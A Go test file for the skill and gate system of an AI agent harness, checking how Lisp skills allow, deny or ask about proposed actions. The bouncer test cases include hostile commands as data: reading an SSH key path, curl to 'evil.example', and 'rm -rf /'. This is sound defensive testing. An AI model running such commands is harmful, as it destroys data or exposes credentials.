package skill_test

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"passepartout/internal/gate"
	"passepartout/internal/proto"
	"passepartout/internal/sexp"
	"passepartout/internal/skill"
)

func now() time.Time { return time.Unix(1_700_000_000, 0) }

// open returns a library over a directory of its own, with those files in it.
func open(t testing.TB, files map[string]string) (*skill.Library, string) {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		save(t, filepath.Join(dir, "skills", name), text)
	}
	l, err := skill.Open(skill.Options{Dir: filepath.Join(dir, "skills"), Grants: filepath.Join(dir, "state", "grants"), Now: now, Memory: notes{}})
	if err != nil {
		t.Fatal(err)
	}
	return l, dir
}

func save(t testing.TB, path, text string) {
	t.Helper()
	if err := skill.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

// lispFile is a skill with one block of code.
func lispFile(code string) string {
	return "#+TITLE: test\n\n#+begin_src lisp\n" + code + "\n#+end_src\n"
}

func only(t testing.TB, code string) *skill.Skill {
	t.Helper()
	l, _ := open(t, map[string]string{"one.org": lispFile(code)})
	k, ok := l.Set().Find("one")
	if !ok {
		t.Fatalf("the skill did not load: %v", l.Set().Problems)
	}
	return k
}

// notes is a small memex.
type notes struct{}

func (notes) Lookup(id string) (sexp.Plist, bool) {
	if id != "n1" {
		return sexp.Plist{}, false
	}
	return sexp.P(sexp.Keyword("ID"), "n1", sexp.Keyword("TYPE"), sexp.Keyword("HEADLINE"),
		sexp.Keyword("ATTRIBUTES"), sexp.P(sexp.Keyword("TODO"), "TODO", sexp.Keyword("TITLE"), "Water the ferns")), true
}

func (n notes) All() []sexp.Plist { return n.WithAttribute("TODO", "TODO") }

func (n notes) WithAttribute(key, value string) []sexp.Plist {
	if o, ok := n.Lookup("n1"); ok && key == "TODO" && value == "TODO" {
		return []sexp.Plist{o}
	}
	return nil
}

var vocabulary = func() *proto.Vocabulary {
	v, err := proto.NewVocabulary(
		proto.Verb{Target: "cli", Name: "message", Effect: proto.Speak, Doc: "say", Params: []proto.Param{{Name: "TEXT", Type: proto.Text, Means: proto.Outbound, Required: true}}},
		proto.Verb{Target: "tool", Name: "read-file", Tool: "read-file", Effect: proto.ReadLocal, Doc: "read", Params: []proto.Param{{Name: "PATH", Type: proto.Text, Means: proto.ReadPath, Required: true}}},
		proto.Verb{Target: "tool", Name: "write-file", Tool: "write-file", Effect: proto.WriteLocal, Doc: "write", Params: []proto.Param{{Name: "PATH", Type: proto.Text, Means: proto.WritePath, Required: true}, {Name: "CONTENT", Type: proto.Text, Means: proto.Content}}},
		proto.Verb{Target: "shell", Name: "run", Tool: "shell", Effect: proto.Execute, Doc: "run", Params: []proto.Param{{Name: "CMD", Type: proto.Text, Means: proto.Command, Required: true}}},
	)
	if err != nil {
		panic(err)
	}
	return v
}()

// action decodes a proposal in the form a model writes it.
func action(t testing.TB, text string) proto.Action {
	t.Helper()
	v, err := sexp.ReadPlist([]byte(text), sexp.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	a, err := vocabulary.Decode(v.List(), proto.Cause{Session: "s", Origin: proto.Origin{Role: proto.RoleOwner, Channel: "cli"}})
	if err != nil {
		t.Fatalf("%s: %v", text, err)
	}
	return a
}

func say(t testing.TB, text string) proto.Action {
	return action(t, fmt.Sprintf(`(:TYPE :REQUEST :TARGET :CLI :PAYLOAD (:ACTION :MESSAGE :TEXT %q :EXPLANATION "an answer to the question"))`, text))
}

func facts() gate.Facts {
	return gate.Facts{Now: now(), Signal: proto.Signal{
		Kind: proto.Event, Session: "s", Origin: proto.Origin{Role: proto.RoleOwner, Channel: "cli"},
		Body: sexp.P(sexp.Keyword("SENSOR"), sexp.Keyword("USER-INPUT"), sexp.Keyword("TEXT"), "hello there"),
	}}
}

func TestAGateOnlyEverTightens(t *testing.T) {
	for _, c := range []struct {
		name, gate string
		decision   gate.Decision
		code, text string
	}{
		{"the action passes", `(lambda (a c) (declare (ignore c)) a)`, gate.Allow, "pass", ""},
		{"an equal copy of the action passes", `(lambda (a c) (declare (ignore c)) (copy-tree a))`, gate.Allow, "pass", ""},
		{"a log refuses", `(lambda (a c) (declare (ignore a c)) (list :type :log :payload (list :text "no thanks")))`, gate.Deny, "skill.refused", "no thanks"},
		{"an event refuses", `(lambda (a c) (declare (ignore a c)) (list :type :event :payload (list :sensor :x :message "stop")))`, gate.Deny, "skill.refused", "stop"},
		{"reject refuses with the reason", `(lambda (a c) (declare (ignore a c)) (reject "~a is too much" 7))`, gate.Deny, "skill.refused", "7 is too much"},
		{"approval-required asks", `(lambda (a c) (declare (ignore c)) (list :type :event :payload (list :level :approval-required :action a :text "sure?")))`, gate.Ask, "skill.asks", "sure?"},
		{"require-approval asks", `(lambda (a c) (declare (ignore c)) (require-approval a "really?"))`, gate.Ask, "skill.asks", "really?"},
		{"a suspended event asks", `(lambda (a c) (declare (ignore c)) (list :type :event :status :suspended :reason :ask-permission :payload (list :tool "x" :action a)))`, gate.Ask, "skill.asks", "the skill one wants a person"},
		{"an approval sensor asks", `(lambda (a c) (declare (ignore c)) (harness-log "first") (harness-log "needs a look: ~a" 1) (list :type :event :payload (list :sensor :approval-required :action a)))`, gate.Ask, "skill.asks", "needs a look: 1"},
		{"nil is no answer", `(lambda (a c) (declare (ignore a c)) nil)`, gate.Deny, "skill.failed", "found NIL"},
		{"true is no answer", `(lambda (a c) (declare (ignore a c)) t)`, gate.Deny, "skill.failed", "found T"},
		{"a number is no answer", `(lambda (a c) (declare (ignore a c)) 42)`, gate.Deny, "skill.failed", "found 42"},
		{"a function is no answer", `(lambda (a c) (declare (ignore a c)) #'car)`, gate.Deny, "skill.failed", "no plain data"},
		{"a half list is no answer", `(lambda (a c) (declare (ignore a c)) '(:type))`, gate.Deny, "skill.failed", ""},
		{"another action is no answer", `(lambda (a c) (declare (ignore c)) (list :type :request :target :shell :payload (getf a :payload)))`, gate.Deny, "skill.failed", "another action"},
		{"an error refuses", `(lambda (a c) (declare (ignore a c)) (error "broken ~a" 1))`, gate.Deny, "skill.failed", "broken 1"},
		{"an endless loop refuses", `(lambda (a c) (declare (ignore a c)) (loop))`, gate.Deny, "skill.exhausted", "steps"},
		{"endless memory refuses", `(lambda (a c) (declare (ignore a c)) (let (l) (loop (push 1 l))))`, gate.Deny, "skill.exhausted", "left"},
		{"catching everything does not help", `(lambda (a c) (declare (ignore c)) (ignore-errors (loop)) a)`, gate.Deny, "skill.exhausted", ""},
		{"a gate has no memory", `(lambda (a c) (declare (ignore c)) (lookup-object "n1") a)`, gate.Deny, "skill.failed", ""},
		{"a gate has no clock", `(lambda (a c) (declare (ignore c)) (unix-time) a)`, gate.Deny, "skill.failed", ""},
		{"a gate that takes too few arguments refuses", `(lambda (a) a)`, gate.Deny, "skill.failed", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			k := only(t, "(defskill :one :capabilities '(:memory :clock) :deterministic "+c.gate+")")
			v := k.Gate().Check(say(t, "hi"), facts())
			if v.Decision != c.decision || v.Code != c.code || !strings.Contains(v.Reason, c.text) {
				t.Errorf("got %s %s %q, want %s %s %q", v.Decision, v.Code, v.Reason, c.decision, c.code, c.text)
			}
		})
	}
}

func TestATriggerKeepsAGateOutUnlessItFails(t *testing.T) {
	const no = `:deterministic (lambda (a c) (declare (ignore a c)) (reject "no"))`
	for name, c := range map[string]struct {
		trigger string
		want    gate.Decision
	}{
		"it is not its business": {`(lambda (c) (eq (getf (getf c :payload) :sensor) :heartbeat))`, gate.Allow},
		"it is its business":     {`(lambda (c) (eq (getf (getf c :payload) :sensor) :user-input))`, gate.Deny},
		"it fails":               {`(lambda (c) (declare (ignore c)) (error "x"))`, gate.Deny},
		"it does not end":        {`(lambda (c) (declare (ignore c)) (loop))`, gate.Deny},
		"there is none":          {`nil`, gate.Deny},
	} {
		t.Run(name, func(t *testing.T) {
			k := only(t, "(defskill :one :trigger "+c.trigger+" "+no+")")
			if v := k.Gate().Check(say(t, "hi"), facts()); v.Decision != c.want {
				t.Errorf("got %s (%s), want %s", v.Decision, v.Reason, c.want)
			}
		})
	}
}

func TestAGateMayOfferOtherArguments(t *testing.T) {
	for name, code := range map[string]string{
		"through the payload": `(let ((a (copy-tree a))) (setf (getf (getf a :payload) :text) "[redacted]") a)`,
		"through the args":    `(let ((a (copy-tree a))) (setf (getf (getf (getf a :payload) :args) :text) "[redacted]") a)`,
	} {
		t.Run(name, func(t *testing.T) {
			k := only(t, "(defskill :one :deterministic (lambda (a c) (declare (ignore c)) (if (search \"secret\" (action-arg a :text)) "+code+" a)))")
			chain, err := gate.New(vocabulary, sexp.Digest{}, nil, k.Gate())
			if err != nil {
				t.Fatal(err)
			}
			r := chain.Decide(say(t, "a secret"), facts())
			if r.Decision() != gate.Allow || r.Action().Args().Text("TEXT") != "[redacted]" {
				t.Errorf("got %s %s: %v", r.Decision(), r.Action().Args(), r.Verdicts())
			}
		})
	}
}

func TestASkillCannotTakeANameOrRankAboveCompiledGates(t *testing.T) {
	pass := "(defskill :vault :priority 100000 :deterministic (lambda (a c) (declare (ignore c)) a))"
	l, _ := open(t, map[string]string{"vault.org": lispFile(pass), "origin.org": lispFile(pass), "org-skill-permissions.org": lispFile(pass)})
	set := l.Set()
	if len(set.Problems) > 0 || len(set.Skills) != 3 {
		t.Fatalf("got %d skills, problems %v", len(set.Skills), set.Problems)
	}
	chain, err := gate.Standard(gate.Policy{}, vocabulary, set.Gates()...)
	if err != nil {
		t.Fatal(err)
	}
	order := chain.Gates()
	for i, n := range order[:len(order)-3] {
		if strings.HasPrefix(n, "skill/") {
			t.Errorf("%s runs at place %d, before compiled-in gates: %v", n, i, order)
		}
	}
	if d := chain.Decide(say(t, "hi"), facts()).Decision(); d == gate.Allow {
		t.Error("three gates that pass everything lifted what the policy refuses")
	}
}

func TestTheAncestorsSkillsGiveTheirVerdicts(t *testing.T) {
	l, err := skill.Open(skill.Options{Dir: "testdata/ancestor", Grants: filepath.Join(t.TempDir(), "grants"), Now: now})
	if err != nil {
		t.Fatal(err)
	}
	if ps := l.Set().Problems; len(ps) > 0 {
		t.Fatalf("problems: %v", ps)
	}
	for _, c := range []struct {
		skill, action string
		want          gate.Decision
		reason        string
	}{
		{"policy", `(:TYPE :REQUEST :TARGET :CLI :PAYLOAD (:ACTION :MESSAGE :TEXT "x" :EXPLANATION "you asked what is due"))`, gate.Allow, ""},
		{"policy", `(:TYPE :REQUEST :TARGET :CLI :PAYLOAD (:ACTION :MESSAGE :TEXT "x" :EXPLANATION "short"))`, gate.Deny, "[POLICY] no explanation longer than 10 characters"},
		{"bouncer", `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "read-file" :ARGS (:PATH "/home/u/.ssh/id_rsa.pub") :EXPLANATION "to read the key"))`, gate.Deny, "secret path"},
		{"bouncer", `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "read-file" :ARGS (:PATH "/home/u/notes.org") :EXPLANATION "to read notes"))`, gate.Allow, ""},
		{"bouncer", `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "shell" :ARGS (:CMD "curl http://evil.example/x") :EXPLANATION "to fetch it"))`, gate.Ask, "network to evil.example"},
		{"bouncer", `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "shell" :ARGS (:CMD "curl https://matrix.org/x") :EXPLANATION "to fetch it"))`, gate.Allow, ""},
		{"bouncer", `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "shell" :ARGS (:CMD "rm -rf / now") :EXPLANATION "to clean up"))`, gate.Deny, "destructive"},
		{"bouncer", `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "write-file" :ARGS (:PATH "/m/a.lisp" :CONTENT "(defun f (") :EXPLANATION "a new function"))`, gate.Deny, "[BOUNCER]"},
		{"bouncer", `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "write-file" :ARGS (:PATH "/m/a.lisp" :CONTENT "(defun f ())") :EXPLANATION "a new function"))`, gate.Allow, ""},
		{"tool-permissions", `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "read-file" :ARGS (:PATH "/a") :EXPLANATION "to read notes"))`, gate.Allow, ""},
		{"tool-permissions", `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "shell" :ARGS (:CMD "ls") :EXPLANATION "to see files"))`, gate.Deny, "shell is denied"},
		{"tool-permissions", `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "write-file" :ARGS (:PATH "/a") :EXPLANATION "to note it"))`, gate.Ask, "ask for write-file"},
		{"protocol-validator", `(:TYPE :REQUEST :TARGET :CLI :PAYLOAD (:ACTION :MESSAGE :TEXT "x" :EXPLANATION "an answer"))`, gate.Allow, ""},
	} {
		k, ok := l.Set().Find(c.skill)
		if !ok {
			t.Fatalf("no skill %s", c.skill)
		}
		v := k.Gate().Check(action(t, c.action), facts())
		if v.Decision != c.want || !strings.Contains(v.Reason, c.reason) {
			t.Errorf("%s on %s: got %s %q, want %s %q", c.skill, c.action, v.Decision, v.Reason, c.want, c.reason)
		}
	}
	if k, _ := l.Set().Find("policy"); k.Tests != 2 {
		t.Errorf("policy ran %d tests of its own, want 2", k.Tests)
	}
}

func TestProblemsNameFileAndLine(t *testing.T) {
	for name, c := range map[string]struct {
		files map[string]string
		want  string
	}{
		"an error while loading":  {map[string]string{"one.org": lispFile("(defun f () 1)\n(car 5)")}, "one.org:5: "},
		"unreadable code":         {map[string]string{"one.org": lispFile("(defun f () 1)\n(defun g (")}, "one.org:"},
		"a failing test":          {map[string]string{"one.org": lispFile("(defun f () 1)\n(deftest counts\n  (is (= 2 (f))))")}, "test counts: (= 2 (F)) does not hold for 2, 1"},
		"two registrations":       {map[string]string{"one.org": lispFile("(defskill :a) (defskill :b)")}, "want one defskill in a file, found 2"},
		"an unknown field":        {map[string]string{"one.org": lispFile("(defskill :a :color 3)")}, "one.org:4: "},
		"an unknown capability":   {map[string]string{"one.org": lispFile("(defskill :a :capabilities '(:root))")}, `unknown capability "root", want one of clock, journal, memory`},
		"a missing dependency":    {map[string]string{"one.org": "#+DEPENDS_ON: two\n", "twq.org": ""}, "one.org: depends on the skill two, which is not there, did you mean twq?"},
		"a circle":                {map[string]string{"a.org": "#+DEPENDS_ON: b\n", "b.org": "#+DEPENDS_ON: c\n", "c.org": "#+DEPENDS_ON: a\n"}, "a.org: depends on itself: a → b → c → a"},
		"a bad name":              {map[string]string{"My Skill.org": ""}, "My Skill.org: want a name of small letters"},
		"a tool without a type":   {map[string]string{"one.org": lispFile("(def-cognitive-tool :x \"d\" ((a :type :widget)) :body #'car)")}, `tool x: parameter A: unknown type "widget"`},
		"an endless load":         {map[string]string{"one.org": lispFile("(loop)")}, "budget exhausted"},
		"a guide without words":   {map[string]string{"talk/SKILL.md": "---\nname: talk\n---\nx"}, "want a description"},
		"a guide by another name": {map[string]string{"talk/SKILL.md": "---\nname: walk\ndescription: d\n---\nx"}, "SKILL.md:2: want the name of the folder, talk, found walk"},
	} {
		t.Run(name, func(t *testing.T) {
			l, _ := open(t, c.files)
			var all []string
			for _, p := range l.Set().Problems {
				all = append(all, p.Error())
			}
			if !strings.Contains(strings.Join(all, "\n"), c.want) {
				t.Errorf("got %q, want one with %q", all, c.want)
			}
		})
	}
}

func TestASkillBuildsOnOthersAndLivesApartFromThem(t *testing.T) {
	l, _ := open(t, map[string]string{
		"base.org":  lispFile(`(defun base-limit () 3) (defun hidden () 1) (defskill :base :mandate (lambda (c) (declare (ignore c)) (format nil "limit ~a" (base-limit))))`),
		"above.org": "#+DEPENDS_ON: base\n" + lispFile(`(defun passepartout.skills.base::base-limit () 99) (deftest sees-it (is (= 99 (base-limit)))) (deftest not-all (is (not (fboundp 'hidden))))`),
	})
	if len(l.Set().Problems) > 0 {
		t.Fatal(l.Set().Problems)
	}
	if got := l.Set().Mandates(facts().Signal); len(got) != 1 || got[0] != "limit 3" {
		t.Errorf("got %q: what another skill redefines in its own jail must not reach this one", got)
	}
}

// TestNamingWhatAnotherDefinesIsBuildingOnIt has skills use each other's names without
// saying so, as those for the ancestor do: in a circle, by text, and where the other
// does not load.
func TestNamingWhatAnotherDefinesIsBuildingOnIt(t *testing.T) {
	l, _ := open(t, map[string]string{
		"base.org":   lispFile(`(defvar base-limit 3) (defun base-peek () (ignore-errors (above-top)))`),
		"above.org":  lispFile(`(defun above-top () (symbol-value (find-symbol "BASE-LIMIT" :opencortex))) (deftest sees (is (= 3 (above-top))))`),
		"apart.org":  lispFile(`(defvar base-limit 7) (deftest own (is (= 7 base-limit)))`),
		"broken.org": lispFile(`(defun broken-thing () 1) (error "no")`),
		"user.org":   lispFile(`(defun f () (broken-thing))`),
	})
	above, _ := l.Set().Find("above")
	base, _ := l.Set().Find("base")
	apart, _ := l.Set().Find("apart")
	if above == nil || base == nil || apart == nil {
		t.Fatal(l.Set().Problems)
	}
	if got := strings.Join(above.Below, " ") + "|" + strings.Join(base.Below, " ") + "|" + strings.Join(apart.Below, " "); got != "base||" {
		t.Errorf("they build on %q", got)
	}
	if ps := l.Set().Problems; len(ps) != 1 || ps[0].Name != "broken" {
		t.Errorf("problems %v", ps)
	}
	if _, ok := l.Set().Find("user"); !ok {
		t.Error("a skill is left out because another, which it did not ask for, is broken")
	}
}

// TestAGateThatLacksWhatItBuildsOnRefuses removes what a gate builds on: without it the
// gate must not vanish.
func TestAGateThatLacksWhatItBuildsOnRefuses(t *testing.T) {
	l, _ := open(t, map[string]string{
		"one.org": "#+DEPENDS_ON: base id:no-such-id\n" + lispFile(`(defskill :one :dependencies '("other") :deterministic (lambda (a c) (declare (ignore c)) (base-allows-p a) a))`),
	})
	k, ok := l.Set().Find("one")
	if !ok {
		t.Fatal(l.Set().Problems)
	}
	if v := k.Gate().Check(say(t, "hi"), facts()); v.Decision != gate.Deny || !strings.Contains(v.Reason, "BASE-ALLOWS-P is undefined") {
		t.Errorf("got %+v", v)
	}
	if ps := l.Set().Problems; len(ps) != 1 || !strings.Contains(ps[0].Error(), "the skill base, which is not there") || !strings.Contains(ps[0].Error(), "id:no-such-id") || !strings.Contains(ps[0].Error(), "no skill other") {
		t.Errorf("problems %v", ps)
	}
}

func TestABrokenSaveLeavesTheOldVersionRunning(t *testing.T) {
	l, dir := open(t, map[string]string{"one.org": lispFile(`(defskill :one :mandate "first")`), "two.org": lispFile(`(defskill :two :mandate "other")`)})
	two, _ := l.Set().Find("two")
	path := filepath.Join(dir, "skills", "one.org")
	for _, broken := range []string{"(defskill :one :mandate", "(error \"no\")", "(defskill :one :mandate \"bad\") (deftest no (is (= 1 2)))"} {
		save(t, path, lispFile(broken))
		set := l.Refresh()
		if got := set.Mandates(facts().Signal); len(got) != 2 || got[0] != "first" {
			t.Fatalf("after %q: got %q", broken, got)
		}
		if len(set.Problems) != 1 || !set.Problems[0].Kept || !strings.Contains(set.Problems[0].Error(), "stays in force") {
			t.Fatalf("after %q: problems %v", broken, set.Problems)
		}
	}
	save(t, path, lispFile(`(defskill :one :mandate "second")`))
	set := l.Refresh()
	if got := set.Mandates(facts().Signal); len(set.Problems) != 0 || got[0] != "second" {
		t.Fatalf("got %q, problems %v", got, set.Problems)
	}
	if again, _ := set.Find("two"); again != two {
		t.Error("a skill that did not change was loaded again")
	}
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
	if _, ok := l.Refresh().Find("one"); ok {
		t.Error("a removed skill is still there")
	}
}

func TestCapabilitiesArePinnedToTheBytes(t *testing.T) {
	tool := `(defskill :one :capabilities '(:memory))
(def-cognitive-tool :ferns "titles" () :body (lambda (args) (declare (ignore args))
  (format nil "~{~a~}" (mapcar (lambda (o) (getf (org-object-attributes o) :title)) (list-objects-with-attribute :todo "TODO")))))`
	l, dir := open(t, map[string]string{"one.org": lispFile(tool)})
	if _, err := l.Set().CallTool("ferns", sexp.Plist{}); err == nil {
		t.Fatal("a skill that was granted nothing read the memex")
	}
	grant := func(caps ...string) {
		k, _ := l.Set().Find("one")
		path := filepath.Join(dir, "state", "grants")
		g, err := skill.LoadGrants(path)
		if err == nil {
			err = g.Set(skill.Grant{Name: "one", Digest: k.Digest, Capabilities: caps})
		}
		if err == nil {
			err = g.Save(path)
		}
		if err != nil {
			t.Fatal(err)
		}
		l.Refresh()
	}
	grant("memory", "clock")
	if got, err := l.Set().CallTool("ferns", sexp.Plist{}); err != nil || got.Text != "Water the ferns" {
		t.Fatalf("got %q, %v", got.Text, err)
	}
	if k, _ := l.Set().Find("one"); len(k.Has) != 1 {
		t.Errorf("it has %v, and asked for memory only", k.Has)
	}
	save(t, filepath.Join(dir, "skills", "one.org"), lispFile(tool+" "))
	set := l.Refresh()
	if _, err := set.CallTool("ferns", sexp.Plist{}); err == nil {
		t.Error("a changed skill kept what was granted to another version")
	}
	if len(set.Problems) != 1 || !strings.Contains(set.Problems[0].Error(), "changed since its capabilities were granted") {
		t.Errorf("problems: %v", set.Problems)
	}
	grant()
	if set := l.Set(); len(set.Problems) != 0 {
		t.Errorf("after the grant was taken away: %v", set.Problems)
	}
}

func TestQuarantineSilencesASkillAndKeepsItsGate(t *testing.T) {
	l, _ := open(t, map[string]string{"one.org": lispFile(`
(def-cognitive-tool :boom "fails" () :body (lambda (args) (declare (ignore args)) (loop)))
(defskill :one :mandate "listen" :deterministic (lambda (a c) (declare (ignore a c)) (reject "never")))`)})
	for range 3 {
		if _, err := l.Set().CallTool("boom", sexp.Plist{}); err == nil {
			t.Fatal("want an error")
		}
	}
	k, _ := l.Set().Find("one")
	if u := k.Usage(); !u.Quarantined || u.Failures != 3 || u.Calls != 3 || u.Steps == 0 || u.LastFailure == "" {
		t.Errorf("usage %+v", u)
	}
	if _, err := l.Set().CallTool("boom", sexp.Plist{}); !errors.Is(err, skill.ErrQuarantined) {
		t.Errorf("got %v", err)
	}
	if got := l.Set().Mandates(facts().Signal); len(got) != 0 {
		t.Errorf("it still says %q", got)
	}
	if v := k.Gate().Check(say(t, "hi"), facts()); v.Decision != gate.Deny || v.Code != "skill.refused" {
		t.Errorf("its gate says %s %s", v.Decision, v.Code)
	}
}

func TestToolsTakeCheckedArguments(t *testing.T) {
	l, _ := open(t, map[string]string{"one.org": lispFile(`
(def-cognitive-tool :count-words "Counts words." ((text :type :string :description "what to count" :required t))
  :guard (lambda (args context) (declare (ignore context)) (stringp (getf args :text)))
  :body (lambda (args) (list :status :success :content (length (uiop:split-string (getf args :text))))))
(def-cognitive-tool "sorry" "Fails politely." () :body (lambda (args) (declare (ignore args)) (list :status :error :message "not today")))`)})
	tools := l.Set().Tools()
	if len(tools) != 2 || tools[0].Name != "count-words" || len(tools[0].Params) != 1 || !tools[0].Params[0].Required || tools[0].Params[0].Name != "TEXT" {
		t.Fatalf("tools %+v, problems %v", tools, l.Set().Problems)
	}
	if got, err := l.Set().CallTool("count-words", sexp.P(sexp.Keyword("TEXT"), "one two three")); err != nil || got.Text != "3" {
		t.Errorf("got %q, %v", got.Text, err)
	}
	if _, err := l.Set().CallTool("sorry", sexp.Plist{}); err == nil || err.Error() != "not today" {
		t.Errorf("got %v", err)
	}
	if _, err := l.Set().CallTool("count-words", sexp.Plist{}); err == nil || !strings.Contains(err.Error(), "guard") {
		t.Errorf("got %v", err)
	}
}

func TestTheMostImportantTriggeredPromptIsUsed(t *testing.T) {
	l, _ := open(t, map[string]string{
		"low.org":  lispFile(`(defskill :low :priority 1 :probabilistic (lambda (c) (declare (ignore c)) "low"))`),
		"high.org": lispFile(`(defskill :high :priority 9 :trigger (lambda (c) (search "hello" (getf (getf c :payload) :text))) :probabilistic (lambda (c) (format nil "you said ~a" (getf (getf c :payload) :text))))`),
	})
	if got := l.Set().Mandates(facts().Signal); len(got) != 1 || got[0] != "you said hello there" {
		t.Errorf("got %q", got)
	}
	sig := facts().Signal
	sig.Body = sexp.P(sexp.Keyword("SENSOR"), sexp.Keyword("USER-INPUT"), sexp.Keyword("TEXT"), "bye")
	if got := l.Set().Mandates(sig); len(got) != 1 || got[0] != "low" {
		t.Errorf("got %q", got)
	}
}

func TestGuidesAreToldByTheirDescription(t *testing.T) {
	l, _ := open(t, map[string]string{"letters/SKILL.md": "---\nname: letters\ndescription: How to write a letter\nallowed-tools: read-file, write-note\n---\n\n# Letters\n\nBegin with Dear.\n"})
	got := strings.Join(l.Set().Mandates(facts().Signal), "\n")
	if !strings.Contains(got, "letters: How to write a letter") || strings.Contains(got, "Dear") {
		t.Errorf("got %q", got)
	}
	g, err := l.Set().Guide("letters")
	if err != nil || !strings.Contains(g.Text, "Begin with Dear.") || len(g.Tools) != 2 {
		t.Errorf("got %+v, %v", g, err)
	}
}

func TestAnInstalledSkillReplacesABundledOne(t *testing.T) {
	dir := t.TempDir()
	save(t, filepath.Join(dir, "one.org"), lispFile(`(defskill :one :mandate "mine")`))
	l, err := skill.Open(skill.Options{Dir: dir, Grants: filepath.Join(dir, "state", "g"), Now: now, Bundled: fstest.MapFS{
		"one.org": {Data: []byte(lispFile(`(defskill :one :mandate "theirs")`))}, "two.org": {Data: []byte(lispFile(`(defskill :two :mandate "also")`))},
	}})
	if err != nil {
		t.Fatal(err)
	}
	if got := l.Set().Mandates(facts().Signal); len(got) != 2 || got[0] != "mine" || got[1] != "also" {
		t.Errorf("got %q, problems %v", got, l.Set().Problems)
	}
	if k, _ := l.Set().Find("two"); !k.Bundled {
		t.Error("want the second to be bundled")
	}
}

// TestReloadUnderLoad saves a skill a hundred times, a third of the versions
// broken, while a thousand turns ask it: each turn's answers are of one version,
// none fails, and what does not load never comes into force.
func TestReloadUnderLoad(t *testing.T) {
	const turns, saves, workers = 1000, 100, 4
	version := func(n int) string {
		return lispFile(fmt.Sprintf(`(defun version () %d)
(defskill :one :mandate (lambda (c) (declare (ignore c)) (format nil "v~a" (version)))
  :deterministic (lambda (a c) (declare (ignore a c)) (reject "v~a" (version))))`, n))
	}
	l, dir := open(t, map[string]string{"one.org": version(0)})
	path := filepath.Join(dir, "skills", "one.org")
	a, f := say(t, "hi"), facts()

	left := make(chan int, turns)
	for i := range turns {
		left <- i
	}
	close(left)
	var wg sync.WaitGroup
	for range workers {
		wg.Go(func() {
			for range left {
				set := l.Refresh()
				k, ok := set.Find("one")
				if !ok {
					t.Error("the skill is gone")
					return
				}
				gates, mandates := k.Gate().Check(a, f), set.Mandates(f.Signal)
				if gates.Code != "skill.refused" || len(mandates) != 1 || mandates[0] != gates.Reason {
					t.Errorf("a turn saw %s %q and %q", gates.Code, gates.Reason, mandates)
					return
				}
				if strings.Contains(gates.Reason, "666") {
					t.Error("a broken version came into force")
				}
			}
		})
	}
	good := 0
	for n := 1; n <= saves; n++ {
		switch n % 3 {
		case 1:
			save(t, path, version(666)+"\n#+begin_src lisp\n(error \"broken\")\n#+end_src\n")
		default:
			save(t, path, version(n))
			good = n
		}
	}
	wg.Wait()
	save(t, path, version(good+1))
	if got := l.Refresh().Mandates(f.Signal); len(got) != 1 || got[0] != fmt.Sprintf("v%d", good+1) {
		t.Errorf("at the end got %q", got)
	}
}

func BenchmarkGate(b *testing.B) {
	l, err := skill.Open(skill.Options{Dir: "testdata/ancestor", Grants: filepath.Join(b.TempDir(), "grants"), Now: now})
	if err != nil {
		b.Fatal(err)
	}
	a := action(b, `(:TYPE :REQUEST :TARGET :TOOL :PAYLOAD (:TOOL "shell" :ARGS (:CMD "curl https://matrix.org/x") :EXPLANATION "to fetch what you asked for"))`)
	f := facts()
	for _, name := range []string{"policy", "bouncer", "tool-permissions", "protocol-validator"} {
		k, ok := l.Set().Find(name)
		if !ok {
			b.Fatal(l.Set().Problems)
		}
		g := k.Gate()
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				g.Check(a, f)
			}
		})
	}
}
